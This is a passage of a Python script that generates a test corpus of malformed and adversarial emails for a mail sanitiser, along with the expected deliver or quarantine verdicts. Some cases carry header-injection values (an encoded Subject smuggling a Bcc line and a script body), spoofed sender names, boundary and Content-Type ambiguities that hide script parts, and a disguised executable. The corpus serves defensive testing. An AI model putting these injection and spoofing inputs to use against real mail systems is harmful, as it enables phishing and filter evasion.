#!/usr/bin/env python3
"""Regenerate the hand-written corpus: corpus/<category>/<name>.eml + .toml.

    python3 corpus/tools/make_corpus.py            # writes next to this tools/ folder
    python3 corpus/tools/make_corpus.py --out DIR  # somewhere else

Every case is built byte by byte here (Japanese charsets through the encoders
in corpuslib.py), so the .eml files can be regenerated exactly; they are
committed too.  The sidecar format is described in corpus/README.md.
`selfcheck.py` checks the sidecars and compares each deliver case's
expectations with an independent Python reading of the message.
"""

from __future__ import annotations

import argparse
import sys
from pathlib import Path

sys.dont_write_bytecode = True
sys.path.insert(0, str(Path(__file__).resolve().parent))

from corpuslib import (  # noqa: E402
    Case, T, b64, enc, eucjp, ew, ew_bytes_split, ew_words, fake_docx, fake_pdf, fake_pe, fake_xlsx,
    fake_zip, finish, jis, pct, qp, rfc2231, sjis, tiny_png, tnef, uuencode, write_all,
)

CASES: list[Case] = []

DATE = "Mon, 1 Apr 2024 10:00:00 +0900"
FROM = "Yamada Taro <taro.yamada@example.jp>"
TO = "soumu@city.example.lg.jp"


def add(category: str, name: str, eml: bytes, description: str, verdict: str = "deliver", *,
        subject: str | None = None, contains=(), not_contains=(), findings=(), eol: str = "crlf") -> None:
    """Register one case. `eml` is LF-only bytes; it is converted to `eol`
    ("crlf", "lf", or "raw" = written exactly as given). @@MID@@ becomes a
    unique Message-ID."""
    mid = f"<{category}.{name}.20240401@corpus.example.jp>".replace("_", "-")
    eml = eml.replace(b"@@MID@@", mid.encode("ascii"))
    if eol != "raw":
        eml = finish(eml, eol)
    CASES.append(Case(category, name, eml, description, verdict, subject, list(contains),
                      list(not_contains), list(findings)))


def head(subject: str = "Test", *, frm: str = FROM, to: str = TO, date: str | None = DATE,
         mid: bool = True, extra: str = "", mime: bool = True) -> str:
    """Standard top-level header lines (ASCII; encode non-ASCII subjects with ew())."""
    lines = [f"From: {frm}", f"To: {to}", f"Subject: {subject}"]
    if date:
        lines.append(f"Date: {date}")
    if mid:
        lines.append("Message-ID: @@MID@@")
    if mime:
        lines.append("MIME-Version: 1.0")
    s = "\n".join(lines) + "\n"
    return s + extra


def text_part(text: str, charset: str = "UTF-8", cte: str = "base64", *, headers: str = "",
              label: str | None = None) -> bytes:
    """A text/plain part (headers + body), body encoded with `cte`."""
    data = enc(text, charset)
    if cte == "base64":
        body = b64(data).encode("ascii") + b"\n"
    elif cte == "quoted-printable":
        body = qp(data).encode("ascii")
    else:
        body = data
    if not body.endswith(b"\n"):
        body += b"\n"
    lab = label or charset
    return (f"Content-Type: text/plain; charset={lab}\n{headers}"
            f"Content-Transfer-Encoding: {cte}\n\n").encode("ascii") + body


def html_part(html: str, charset: str = "UTF-8", cte: str = "quoted-printable") -> bytes:
    data = html.encode("utf-8") if charset.upper() == "UTF-8" else enc(html, charset)
    body = (b64(data) + "\n") if cte == "base64" else qp(data) if cte == "quoted-printable" else None
    if body is None:
        raw = data if data.endswith(b"\n") else data + b"\n"
    else:
        raw = body.encode("ascii")
        if not raw.endswith(b"\n"):
            raw += b"\n"
    return (f"Content-Type: text/html; charset={charset}\n"
            f"Content-Transfer-Encoding: {cte}\n\n").encode("ascii") + raw


def attach(ctype: str, data: bytes, *, ct_params: str = "", disp_params: str = "",
           disposition: str = "attachment", cte: str = "base64") -> bytes:
    """An attachment part; params are complete strings such as 'name="a.pdf"'."""
    ct = ctype + (f";\n {ct_params}" if ct_params else "")
    cd = disposition + (f";\n {disp_params}" if disp_params else "")
    body = b64(data) + "\n" if cte == "base64" else None
    head_s = f"Content-Type: {ct}\nContent-Disposition: {cd}\nContent-Transfer-Encoding: {cte}\n\n"
    return head_s.encode("ascii") + (body.encode("ascii") if body is not None else data)


def named(ctype: str, data: bytes, filename: str, **kw) -> bytes:
    """Attachment with an ASCII filename in both name= and filename=."""
    return attach(ctype, data, ct_params=f'name="{filename}"', disp_params=f'filename="{filename}"', **kw)


def multipart(boundary: str, parts: list[bytes], *, subtype: str = "mixed", preamble: bytes = b"",
              epilogue: bytes = b"", close: bool = True, ct_extra: str = "") -> bytes:
    """Content-Type header line + blank line + body of a multipart entity."""
    out = f'Content-Type: multipart/{subtype}; boundary="{boundary}"{ct_extra}\n\n'.encode("ascii")
    out += preamble
    for p in parts:
        out += f"--{boundary}\n".encode("ascii") + p
    if close:
        out += f"--{boundary}--\n".encode("ascii")
    return out + epilogue


def body_of(multipart_bytes: bytes) -> bytes:
    return multipart_bytes


def msg_text(subject_ew: str, text: str, charset: str = "UTF-8", cte: str = "base64", **kw) -> bytes:
    return head(subject_ew, **kw).encode("ascii") + text_part(text, charset, cte)


def msg_html(subject_ew: str, html: str, cte: str = "quoted-printable", **kw) -> bytes:
    return head(subject_ew, **kw).encode("ascii") + html_part(html, "UTF-8", cte)


PE = fake_pe(b"corpus")
PE_B64_HEAD = b64(PE)[:24]  # the first encoded characters: must never appear in the text
PDF = fake_pdf()
XLSX = fake_xlsx()
DOCX = fake_docx()

# ===========================================================================
# headers/


def headers_cases() -> None:
    c = "headers"

    inner = "総務課 <soumu@city.example.lg.jp>"
    add(c, "encoded_word_in_address",
        T("From: " + ew(inner) + " <attacker@example.net>\n"
          "To: tanaka@city.example.lg.jp\n"
          "Cc: =?UTF-8?Q?kacho=40city.example.lg.jp?=, suzuki@city.example.lg.jp\n"
          "Subject: " + ew("至急：振込先口座変更のお願い") + "\n"
          "Date: " + DATE + "\nMessage-ID: @@MID@@\nMIME-Version: 1.0\n")
        + text_part("いつもお世話になっております。\n振込先口座の変更をお願いいたします。\n新しい口座は追ってご連絡します。\n"),
        "From display name is an encoded-word that decodes to another address (and an encoded-word used as an "
        "addr-spec in Cc): the real address attacker@example.net must stay the address, never the decoded one",
        subject="至急：振込先口座変更のお願い",
        contains=["振込先口座の変更をお願いいたします。", "新しい口座は追ってご連絡します。"])

    add(c, "spoofed_display_name",
        T(head(ew("【至急】本日中の対応をお願いします"),
               frm='"boss@city.example.lg.jp" <evil@example.net>',
               extra="Reply-To: \"boss@city.example.lg.jp\" <evil-reply@example.net>\n"))
        + text_part("お疲れさまです。\n至急、添付の件について本日中に対応をお願いします。\n外出中のため電話には出られません。\n"),
        "Display name shows a trusted municipal address while the address is evil@example.net: the "
        "address must be kept as the address (never replaced by the display name)",
        subject="【至急】本日中の対応をお願いします",
        contains=["至急、添付の件について本日中に対応をお願いします。", "外出中のため電話には出られません。"],
        findings=["header.display_name_address"])

    add(c, "comments_in_addresses",
        T("From: (Sales Dept) Taro Yamada <taro.yamada(office)@example.jp> (Tokyo \\(HQ\\))\n"
          "To: suzuki@city.example.lg.jp (Suzuki (Ichiro))\n"
          "Cc: \"Sato, Hanako\" <hanako.sato@example.com>, (nobody) <kikaku@city.example.lg.jp>\n"
          "Subject: Meeting (draft) =?UTF-8?B?" + ew("打ち合わせ")[10:-2] + "?=\n"
          "Date: Mon, 1 Apr 2024 10:00:00 +0900 (JST)\n"
          "Message-ID: @@MID@@\nMIME-Version: 1.0 (generated by hand)\n")
        + text_part("Comments in addresses must not change who the sender is.\nコメント付きのアドレスのテストです。\n",
                    cte="quoted-printable"),
        "RFC 5322 comments in and around addresses (nested, escaped parentheses, inside the local part, "
        "in Date and MIME-Version): the addresses survive, the comments do not confuse the parser",
        contains=["Comments in addresses must not change who the sender is.", "コメント付きのアドレスのテストです。"])

    add(c, "groups",
        T("From: " + FROM + "\n"
          "To: " + ew("全部署") + ": soumu@city.example.lg.jp, kikaku@city.example.lg.jp;\n"
          "Cc: undisclosed-recipients:;\n"
          "Subject: " + ew("各課への一斉連絡") + "\nDate: " + DATE + "\nMessage-ID: @@MID@@\nMIME-Version: 1.0\n")
        + text_part("各課への一斉連絡です。\n年度末の書類提出期限は3月29日です。\n"),
        "Address groups (an encoded-word group name with members, and an empty group): kept and re-encoded",
        subject="各課への一斉連絡",
        contains=["各課への一斉連絡です。", "年度末の書類提出期限は3月29日です。"])

    add(c, "missing_from",
        T("To: " + TO + "\nSubject: " + ew("差出人のないメール") + "\nDate: " + DATE
          + "\nMessage-ID: @@MID@@\nMIME-Version: 1.0\n")
        + text_part("差出人ヘッダのないメールです。\n本文はそのまま届く必要があります。\n"),
        "No From header at all: the sanitiser must not invent or copy one, and still deliver the text",
        subject="差出人のないメール",
        contains=["差出人ヘッダのないメールです。", "本文はそのまま届く必要があります。"])

    add(c, "missing_date_and_message_id",
        head(ew("日付のないメール"), date=None, mid=False).encode("ascii")
        + text_part("DateヘッダとMessage-IDヘッダがありません。\n", "ISO-2022-JP", "7bit"),
        "No Date and no Message-ID header: delivered; no Date is forged from the input",
        subject="日付のないメール",
        contains=["DateヘッダとMessage-IDヘッダがありません。"])

    add(c, "duplicate_subject",
        T("From: " + FROM + "\nTo: " + TO + "\nSubject: " + ew("会議資料の送付") + "\n"
          "Date: " + DATE + "\nSubject: " + ew("【重要】パスワード再設定のお願い") + "\n"
          "Message-ID: @@MID@@\nMIME-Version: 1.0\n")
        + text_part("会議資料を送付します。\nご確認ください。\n"),
        "Two Subject headers with different values: one reader shows the first, another the last; the "
        "first is kept and the duplicate recorded",
        subject="会議資料の送付",
        contains=["会議資料を送付します。"],
        findings=["header.duplicate"])

    add(c, "duplicate_from",
        T("From: " + ew("総務課") + " <soumu@city.example.lg.jp>\nTo: tanaka@city.example.lg.jp\n"
          "From: attacker <attacker@example.net>\n"
          "Subject: " + ew("人事異動について") + "\nDate: " + DATE + "\nMessage-ID: @@MID@@\nMIME-Version: 1.0\n")
        + text_part("4月1日付の人事異動を通知します。\n"),
        "Two From headers (clients disagree which one they show): the first is kept, the second "
        "recorded as a duplicate, never both",
        subject="人事異動について",
        contains=["4月1日付の人事異動を通知します。"],
        findings=["header.duplicate"])

    subj = ("令和6年度 地域防災訓練の実施について（第2回実行委員会の開催日程、会場、持ち物、"
            "当日の集合時間および雨天時の対応に関するご案内）")
    add(c, "folded_long_subject",
        head(ew_words(subj, "UTF-8", per=9)).encode("ascii")
        + text_part("防災訓練のご案内です。\n集合時間は午前9時です。\n", cte="quoted-printable"),
        "A long Japanese Subject in many UTF-8 encoded-words folded over many lines: whitespace "
        "between encoded-words is dropped, the decoded subject is exact",
        subject=subj,
        contains=["防災訓練のご案内です。", "集合時間は午前9時です。"])

    long_subj = "Request for quotation " + " ".join(f"item-{i:04d}" for i in range(1, 401))
    add(c, "long_subject_unfolded",
        head(long_subj).encode("ascii")
        + b"Content-Type: text/plain; charset=us-ascii\n\nPlease quote items 0001 to 0400.\n",
        "A 4,000-character Subject on a single unfolded line (over the 998-octet limit): re-folded "
        "without changing its text",
        subject=long_subj,
        contains=["Please quote items 0001 to 0400."])

    add(c, "subject_encoded_crlf",
        head("=?UTF-8?Q?=E8=AB=8B=E6=B1=82=E6=9B=B8=0D=0ABcc:_victim@example.net=0D=0A=0D=0A"
             "<script>alert(1)</script>?=").encode("ascii")
        + text_part("請求書を送付いたします。\n"),
        "An encoded-word Subject that decodes to CR LF + a Bcc header + an HTML body: re-encoding the "
        "subject must not inject header lines or a body",
        contains=["請求書を送付いたします。"],
        not_contains=["alert("])

    add(c, "header_nul",
        head("Invoice").encode("ascii").replace(b"Subject: Invoice", b"Subject: Invoice\x00<script>x</script>")
        + text_part("NUL in a header.\n"),
        "A NUL byte inside the Subject header: C string handling would truncate it, so the message "
        "cannot be read reliably",
        verdict="quarantine", findings=["mime.header_nul"])

    add(c, "header_bare_cr",
        finish(head("Invoice").encode("ascii") + text_part("Bare CR in a header.\n"), "crlf")
        .replace(b"Subject: Invoice\r\n", b"Subject: Invoice\rContent-Type: text/html\r\n"),
        "A bare CR inside the Subject line followed by a Content-Type: readers that treat CR as a line "
        "end see an extra header (header injection), others do not",
        verdict="quarantine", findings=["mime.header_bare_cr"], eol="raw")

    add(c, "header_bare_lf",
        finish(head("Invoice").encode("ascii") + text_part("LFだけの改行がヘッダにあります。\n"), "crlf")
        .replace(b"Subject: Invoice\r\n", b"Subject: Invoice\nBcc: victim@example.net\r\n"),
        "A CRLF message with one bare LF inside the Subject line followed by a Bcc field: whichever reading "
        "is taken, no Bcc may reach the output and the text is delivered",
        contains=["LFだけの改行がヘッダにあります。"],
        findings=["mime.header_bare_lf"], eol="raw")

    add(c, "line_without_colon",
        T("From: " + FROM + "\nThis line is not a header field\nTo: " + TO + "\n"
          "Subject: " + ew("ヘッダの途中にゴミ行") + "\nDate: " + DATE + "\nMessage-ID: @@MID@@\nMIME-Version: 1.0\n"
          "Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 8bit\n\n")
        + "ヘッダ部の途中にコロンのない行があります。\n".encode("utf-8"),
        "A line without a colon in the middle of the header section: some readers end the header "
        "section there, others skip the line; the body text must be delivered either way",
        contains=["ヘッダ部の途中にコロンのない行があります。"])

    add(c, "mbox_from_line",
        T("From taro.yamada@example.jp Mon Apr  1 10:00:00 2024\n"
          "Return-Path: <taro.yamada@example.jp>\n"
          "Received: from mail.example.jp (mail.example.jp [192.0.2.10])\n"
          "\tby mx.city.example.lg.jp (Postfix) with ESMTP id 4V7Q2k0Xyz\n"
          "\tfor <soumu@city.example.lg.jp>; Mon,  1 Apr 2024 10:00:01 +0900 (JST)\n"
          + head(ew("Unix から送信", "ISO-2022-JP"))
          + "Content-Type: text/plain; charset=ISO-2022-JP\nContent-Transfer-Encoding: 7bit\n\n@@B@@",
          B=jis("Unix のメールボックスから取り出したメールです。\n>From で始まる行はそのままです。\n")),
        "LF-only Unix mail with an mbox 'From ' postmark line before the header section (as procmail or "
        "a .mbox export leaves it): not a header field, must not break the header reading",
        subject="Unix から送信",
        contains=["Unix のメールボックスから取り出したメールです。"], eol="lf")

    add(c, "date_obsolete_forms",
        head(ew("古い形式の日付"), date="Mon, 1 Apr 24 09:00 JST").encode("ascii")
        + text_part("2桁の年とJSTのタイムゾーン名を使った日付です。\n"),
        "Obsolete Date syntax (two-digit year, no seconds, zone name JST): kept as the same instant, "
        "never dropped or mangled",
        subject="古い形式の日付",
        contains=["2桁の年とJSTのタイムゾーン名を使った日付です。"])

    refs = " ".join(f"<thread.{i:03d}.20240301@mail.example.jp>" for i in range(1, 41))
    folded = "\n ".join(refs.split(" "))
    add(c, "long_references",
        head("Re: " + ew("打ち合わせの件"),
             extra=f"In-Reply-To: <thread.040.20240301@mail.example.jp>\nReferences: {folded}\n").encode("ascii")
        + text_part("40通目の返信です。\n> 前回の打ち合わせの件\n", cte="quoted-printable"),
        "References with 40 message-ids folded over 40 lines and In-Reply-To: identity headers kept "
        "and re-folded within line limits",
        subject="Re: 打ち合わせの件",
        contains=["40通目の返信です。", "> 前回の打ち合わせの件"])


# ===========================================================================
# mime/


def mime_cases() -> None:
    c = "mime"

    add(c, "two_content_type",
        head("Notice").encode("ascii")
        + b"Content-Type: text/plain; charset=UTF-8\nContent-Type: text/html; charset=UTF-8\n\n"
        + b"<html><body><p>Plain or HTML?</p><script>alert('two-ct')</script></body></html>\n",
        "Two Content-Type headers (text/plain and text/html) on the message: readers pick the first "
        "or the last, so what the recipient sees depends on the client",
        verdict="quarantine", findings=["mime.ambiguous_content_type"])

    add(c, "two_content_type_in_part",
        head("Report").encode("ascii")
        + multipart("=_outer_01", [
            text_part("本文です。\n"),
            b"Content-Type: application/pdf; name=\"report.pdf\"\n"
            b"Content-Type: text/plain; charset=us-ascii\n"
            b"Content-Disposition: inline\nContent-Transfer-Encoding: base64\n\n" + b64(PE).encode() + b"\n",
        ]),
        "A part with two different Content-Type headers (application/pdf and text/plain) holding an "
        "executable: the part's type is ambiguous",
        verdict="quarantine", findings=["mime.ambiguous_content_type"])

    add(c, "two_content_type_identical",
        head(ew("同じContent-Typeが2つ")).encode("ascii")
        + b"Content-Type: text/plain; charset=UTF-8\nContent-Type: text/plain; charset=UTF-8\n"
        + b"Content-Transfer-Encoding: base64\n\n"
        + b64("同じ値のContent-Typeヘッダが2つあります。\n".encode()).encode() + b"\n",
        "Two identical Content-Type headers: not ambiguous, the message is delivered",
        subject="同じContent-Typeが2つ",
        contains=["同じ値のContent-Typeヘッダが2つあります。"])

    add(c, "two_boundary_params",
        head("Two boundaries").encode("ascii")
        + b'Content-Type: multipart/mixed; boundary="AAA"; boundary="BBB"\n\n'
        + b"--AAA\nContent-Type: text/plain; charset=us-ascii\n\nReading with boundary AAA.\n"
        + b"--BBB\nContent-Type: text/html; charset=us-ascii\n\n<script>alert('BBB')</script>\n"
        + b"--BBB--\n--AAA--\n",
        "A boundary parameter given twice with different values: each reader splits the body "
        "differently (the classic parser differential)",
        verdict="quarantine", findings=["mime.duplicate_parameter"])

    add(c, "boundary_prefix",
        head("Nested").encode("ascii")
        + b'Content-Type: multipart/mixed; boundary="XYZ"\n\n'
        + b"--XYZ\n"
        + b'Content-Type: multipart/alternative; boundary="XYZ-inner"\n\n'
        + b"--XYZ-inner\nContent-Type: text/plain; charset=us-ascii\n\nInner text.\n"
        + b"--XYZ-inner\nContent-Type: text/html; charset=us-ascii\n\n<p>Inner <b>HTML</b></p>\n"
        + b"--XYZ-inner--\n"
        + b"--XYZ\nContent-Type: application/octet-stream; name=\"a.bin\"\nContent-Transfer-Encoding: base64\n\n"
        + b64(PE).encode() + b"\n--XYZ--\n",
        "The inner boundary XYZ-inner starts with the outer boundary XYZ: a reader that matches "
        "boundaries by prefix ends the outer part at the inner delimiter",
        verdict="quarantine", findings=["mime.boundary_prefix"])

    add(c, "nested_same_boundary",
        head("Same boundary twice").encode("ascii")
        + b'Content-Type: multipart/mixed; boundary="SAME"\n\n'
        + b"--SAME\n"
        + b'Content-Type: multipart/alternative; boundary="SAME"\n\n'
        + b"--SAME\nContent-Type: text/plain; charset=us-ascii\n\nFirst.\n"
        + b"--SAME\nContent-Type: text/html; charset=us-ascii\n\n<p>Second</p>\n"
        + b"--SAME--\n"
        + b"--SAME\nContent-Type: text/plain; charset=us-ascii\n\nThird.\n--SAME--\n",
        "A nested multipart reuses its parent's boundary: where each part ends cannot be decided",
        verdict="quarantine")

    hidden_html = b"--INNER\nContent-Type: text/html; charset=us-ascii\n\n<script>alert('hidden')</script>\n"
    add(c, "boundary_in_base64_body",
        head("Boundary inside base64").encode("ascii")
        + b'Content-Type: multipart/mixed; boundary="OUTER"\n\n'
        + b"--OUTER\n"
        + b'Content-Type: multipart/alternative; boundary="INNER"\n\n'
        + b"--INNER\nContent-Type: text/plain; charset=us-ascii\n\nVisible text.\n"
        + b"--INNER--\n"
        + b"--OUTER\nContent-Type: application/octet-stream; name=\"data.bin\"\n"
        + b"Content-Transfer-Encoding: base64\n\n"
        + b64(b"harmless data " * 6).encode() + b"\n" + hidden_html
        + b64(b"more data " * 6).encode() + b"\n--OUTER--\n",
        "A line '--INNER' (the boundary of a sibling multipart) inside a base64 leaf, followed by an "
        "HTML part: readers that scan for every known boundary see an extra part",
        verdict="quarantine", findings=["mime.boundary_in_body"])

    add(c, "boundary_prefix_line_in_qp",
        head("Boundary-like line").encode("ascii")
        + b'Content-Type: multipart/mixed; boundary="OUTER2"\n\n'
        + b"--OUTER2\nContent-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: quoted-printable\n\n"
        + b"First paragraph of the quoted-printable part.\n"
        + b"--OUTER2ZZZ\nContent-Type: text/html; charset=us-ascii\n\n<script>alert('qp')</script>\n"
        + b"Last paragraph.\n"
        + b"--OUTER2\nContent-Type: text/plain; charset=us-ascii\n\nSecond part.\n--OUTER2--\n",
        "A line '--OUTER2ZZZ' inside a quoted-printable leaf: not a delimiter by RFC 2046 (extra "
        "characters after the boundary) but one for readers that match the boundary as a prefix",
        verdict="quarantine", findings=["mime.boundary_in_body"])

    add(c, "missing_close_boundary",
        head(ew("資料送付（終端なし）")).encode("ascii")
        + multipart("=_NoClose_42", [
            text_part("資料を送付します。\n終端の境界行がありません。\n"),
            attach("application/pdf", PDF, ct_params='name="shiryou.pdf"', disp_params='filename="shiryou.pdf"'),
        ], close=False),
        "A multipart whose closing delimiter is missing (truncated in transit): the parts present are "
        "read to the end of the message",
        subject="資料送付（終端なし）",
        contains=["資料を送付します。", "終端の境界行がありません。", "shiryou.pdf"],
        findings=["mime.missing_close_boundary"])

    add(c, "preamble_epilogue",
        head(ew("前文と後文")).encode("ascii")
        + multipart("=_pre_epi", [
            text_part("本文は最初のパートにあります。\n"),
            text_part("二つ目のパートです。\n", cte="quoted-printable"),
        ], preamble=b"This is a multi-part message in MIME format.\nPREAMBLE-HIDDEN-7731 <script>alert(1)</script>\n",
            epilogue=b"EPILOGUE-HIDDEN-8842\nThis text comes after the closing delimiter.\n"),
        "Text in the preamble (with markup) and in the epilogue: neither is part of any body; only the "
        "two real parts are shown",
        subject="前文と後文",
        contains=["本文は最初のパートにあります。", "二つ目のパートです。"],
        not_contains=["PREAMBLE-HIDDEN-7731", "EPILOGUE-HIDDEN-8842", "alert("])

    add(c, "part_after_close_delimiter",
        head("After the end").encode("ascii")
        + multipart("=_after", [
            b"Content-Type: text/plain; charset=us-ascii\n\nThe only real part.\n",
        ], epilogue=b"--=_after\nContent-Type: text/html; charset=us-ascii\n\n<script>alert('after')</script>\n"
                    b"--=_after--\n"),
        "After the closing delimiter the epilogue holds another '--boundary' line and a part: readers "
        "that split on every delimiter line see an extra HTML part, RFC 2046 readers see an epilogue",
        verdict="quarantine", findings=["mime.boundary_in_body"])

    add(c, "part_without_headers",
        head("Headerless part").encode("ascii")
        + multipart("=_nohdr", [
            b"\nThis part has no header lines at all; it is text/plain us-ascii by default.\n",
            text_part("ヘッダのあるパートです。\n"),
        ]),
        "A body part with no header fields (the blank line right after the delimiter): defaults to "
        "text/plain; charset=us-ascii and is shown",
        contains=["This part has no header lines at all; it is text/plain us-ascii by default.",
                  "ヘッダのあるパートです。"])

    add(c, "multipart_without_boundary",
        head(ew("境界のないマルチパート")).encode("ascii")
        + b"Content-Type: multipart/mixed\n\n"
        + "境界パラメータのないmultipart/mixedです。\n".encode("utf-8")
        + b"--x\nContent-Type: text/plain\n\nx\n--x--\n",
        "multipart/mixed without a boundary parameter: it cannot be split; the body is read as "
        "plain text",
        subject="境界のないマルチパート",
        contains=["境界パラメータのないmultipart/mixedです。"],
        findings=["mime.missing_boundary"])

    add(c, "content_type_case_and_comments",
        head("Case").encode("ascii")
        + b'Content-Type: MULTIPART/Mixed (a comment); BOUNDARY="Case_B1"\n\n'
        + b"--Case_B1\nCONTENT-TYPE: Text/Plain; CHARSET=\"Utf-8\" (comment)\nContent-Transfer-Encoding: BASE64\n\n"
        + b64("大文字小文字とコメントの混在したヘッダです。\n".encode()).encode() + b"\n"
        + b"--Case_B1--\n",
        "Upper/mixed-case type, parameter names and CTE value, with comments in Content-Type: "
        "case-insensitive parsing, the part is read as UTF-8 base64 text",
        contains=["大文字小文字とコメントの混在したヘッダです。"])

    add(c, "boundary_transport_padding",
        head("Padding").encode("ascii")
        + b'Content-Type: multipart/mixed; boundary="pad"\n\n'
        + b"--pad   \nContent-Type: text/plain; charset=us-ascii\n\nFirst part after a padded delimiter.\n"
        + b"--pad\t\nContent-Type: text/plain; charset=us-ascii\n\nSecond part after a tab.\n"
        + b"--pad-- \n",
        "Delimiter lines with trailing spaces and tabs (transport padding, allowed by RFC 2046): still "
        "delimiters",
        contains=["First part after a padded delimiter.", "Second part after a tab."])

    add(c, "unquoted_boundary_with_equals",
        head("Outlook boundary").encode("ascii")
        + b"Content-Type: multipart/mixed;\n\tboundary==_NextPart_000_0001_01DA8300.12345670\n\n"
        + b"This is a multi-part message in MIME format.\n\n"
        + b"--=_NextPart_000_0001_01DA8300.12345670\n" + text_part("引用符のない境界パラメータです。\n", "ISO-2022-JP", "7bit")
        + b"\n--=_NextPart_000_0001_01DA8300.12345670--\n",
        "An unquoted boundary value starting with '=' (not a valid token, but common): read as "
        "'=_NextPart_...'",
        contains=["引用符のない境界パラメータです。"])

    add(c, "no_mime_version",
        head("No MIME-Version", mime=False).encode("ascii")
        + multipart("nomv", [text_part("MIME-Versionヘッダがありません。\n"),
                             named("application/pdf", PDF, "nomv.pdf")]),
        "A multipart message without MIME-Version: read as MIME anyway (what clients do)",
        contains=["MIME-Versionヘッダがありません。", "nomv.pdf"])

    mixed = finish(head(ew("改行コードの混在")).encode("ascii")
                   + b'Content-Type: multipart/mixed; boundary="mix"\n\n', "crlf")
    mixed += b"--mix\nContent-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 8bit\r\n\n"
    mixed += "LFだけの行と\r\nCRLFの行が混在しています。\n三行目です。\r\n".encode("utf-8")
    mixed += b"--mix\r\nContent-Type: text/plain; charset=us-ascii\n\r\nSecond part, LF delimiter above.\n--mix--\r\n"
    add(c, "mixed_line_endings",
        mixed,
        "CRLF and bare LF mixed in part headers, bodies and delimiters (a message edited by tools on "
        "both platforms): every line end is a line end",
        subject="改行コードの混在",
        contains=["CRLFの行が混在しています。", "三行目です。", "Second part, LF delimiter above."],
        eol="raw")

    add(c, "empty_message", b"",
        "A 0-byte message: nothing to read", verdict="quarantine", findings=["mime.empty_message"], eol="raw")

    add(c, "header_only",
        head(ew("本文なし")).encode("ascii").rstrip(b"\n"),
        "Header fields only: no blank line, no body, no final line break",
        subject="本文なし")


# ===========================================================================
# encoding/


def encoding_cases() -> None:
    c = "encoding"

    payload = b"<html><script>alert('b64')</script></html>"
    add(c, "two_cte_headers",
        head("Two CTE").encode("ascii")
        + b"Content-Type: text/plain; charset=us-ascii\n"
        + b"Content-Transfer-Encoding: quoted-printable\nContent-Transfer-Encoding: base64\n\n"
        + b64(payload).encode() + b"\n",
        "Two different Content-Transfer-Encoding headers: one reader shows the base64 text literally, "
        "another decodes it to hidden content",
        verdict="quarantine", findings=["mime.ambiguous_transfer_encoding"])

    add(c, "unknown_cte_x_uue",
        head(ew("図面の送付")).encode("ascii")
        + multipart("=_xuue", [
            text_part("図面を送付します。\n", "ISO-2022-JP", "7bit"),
            b'Content-Type: application/octet-stream; name="zumen.lzh"\n'
            b'Content-Disposition: attachment; filename="zumen.lzh"\n'
            b"Content-Transfer-Encoding: x-uue\n\n"
            + uuencode("zumen.lzh", b"-lh5-" + bytes(range(64))).encode() + b"\n",
        ]),
        "An attachment with the unknown Content-Transfer-Encoding x-uue (old Japanese mailers): "
        "cannot be decoded, removed and named, the text is delivered",
        subject="図面の送付",
        contains=["図面を送付します。", "zumen.lzh"],
        not_contains=["begin 644"],
        findings=["mime.unknown_transfer_encoding"])

    text = "請求書の金額は 123,456 円です。\nお支払期限は4月30日です。\n".encode("utf-8")
    enc_s = b64(text, 60).split("\n")
    garbage = "\n".join(("!" + l[:20] + "*." + l[20:40] + " ~ " + l[40:]) for l in enc_s)
    add(c, "base64_garbage",
        head(ew("請求金額のお知らせ")).encode("ascii")
        + b"Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: base64\n\n"
        + garbage.encode() + b"\n",
        "Base64 with characters outside the alphabet sprinkled between groups: lenient decoders skip "
        "them; the text decodes and the bad encoding is recorded",
        subject="請求金額のお知らせ",
        contains=["請求書の金額は 123,456 円です。", "お支払期限は4月30日です。"],
        findings=["mime.bad_encoding"])

    first = b64("最初の段落です。\n".encode())
    assert first.endswith("=")
    add(c, "base64_after_padding",
        head("Padding").encode("ascii")
        + b"Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: base64\n\n"
        + first.encode() + b"\n" + b64(b"Second segment after padding\n").encode() + b"\n",
        "Base64 data continues after a padded quantum ('=' mid-stream): decoders stop there or go on; "
        "whatever is decoded is shown as text, the first segment always",
        contains=["最初の段落です。"])

    add(c, "qp_bad_escapes",
        head("QP").encode("ascii")
        + b"Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: quoted-printable\n\n"
        + b"Price: 100=ZZ yen, ratio 50=\n% off.\n"
        + b"=E6=97=A5=E6=9C=AC=E8=AA=9E=E3=81=AE=E6=96=87=E7=AB=A0=E3=81=A7=E3=81=99=E3=80=82\n"
        + b"lower case: =e3=81=82=e3=81=84\n"
        + b"dangling at the end =4\n"
        + b"trailing spaces    \n",
        "Quoted-printable with invalid escapes (=ZZ, a truncated =4, lower-case hex): decoded "
        "leniently, never crashes; valid escapes give the text",
        contains=["日本語の文章です。", "Price: 100"])

    add(c, "qp_soft_break_in_multibyte",
        head(ew("ソフト改行")).encode("ascii")
        + b"Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: quoted-printable\n\n"
        + b"=E3=81=93=E3=82=8C=E3=81=AF=E3=82=BD=E3=83=95=E3=83=88=E6=94=B9=E8=A1=8C=E3=81=\n"
        + b"=AE=E3=83=86=E3=82=B9=E3=83=88=E3=81=A7=E3=81=99=E3=80=82\n",
        "A quoted-printable soft line break in the middle of a UTF-8 multi-byte character: bytes are "
        "joined before charset decoding",
        subject="ソフト改行",
        contains=["これはソフト改行のテストです。"])

    add(c, "8bit_labelled_7bit",
        head(ew("7bitと書かれた8bit本文")).encode("ascii")
        + b"Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 7bit\n\n"
        + "Content-Transfer-Encodingは7bitですが、本文はUTF-8の8bitです。\n".encode("utf-8"),
        "Raw UTF-8 body labelled 7bit (very common): decoded by its charset; the output is "
        "correctly labelled",
        subject="7bitと書かれた8bit本文",
        contains=["Content-Transfer-Encodingは7bitですが、本文はUTF-8の8bitです。"])

    add(c, "cte_case_and_whitespace",
        head("CTE spelling").encode("ascii")
        + multipart("=_cte", [
            b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding:   BASE64   \n\n"
            + b64("大文字のBASE64です。\n".encode()).encode() + b"\n",
            b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: Quoted-Printable\n\n"
            + qp("混在表記のQuoted-Printableです。\n".encode()).encode(),
        ]),
        "Content-Transfer-Encoding values in upper/mixed case with surrounding whitespace: recognised",
